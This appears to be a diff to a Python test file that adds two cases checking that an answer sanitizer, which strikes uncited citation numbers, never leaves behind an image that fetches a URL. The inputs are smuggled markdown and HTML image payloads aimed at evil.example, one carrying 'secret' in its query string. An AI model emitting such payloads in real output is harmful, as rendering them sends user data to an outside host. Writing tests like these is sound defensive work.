@@ -56,6 +56,8 @@ def test_numbers_without_evidence_are_struck(text: str, left: str, cited: list[i
         ("Look: ![map][2] [1].", "Look: ! [map][2] [1]."),
         ("It works![1] Yes!", "It works! [1] Yes!"),
         ("a < b and <i>c</i>", "a < b and <i>c</i>"),
+        ("![9][x](https://evil.example/?q=secret)", "x"),  # what strikes a number may make a picture of what is left
+        ("<i[9]mg src=https://evil.example/x>", ""),
     ],
 )
 def test_no_picture_is_fetched_by_an_answer(text: str, left: str) -> None:
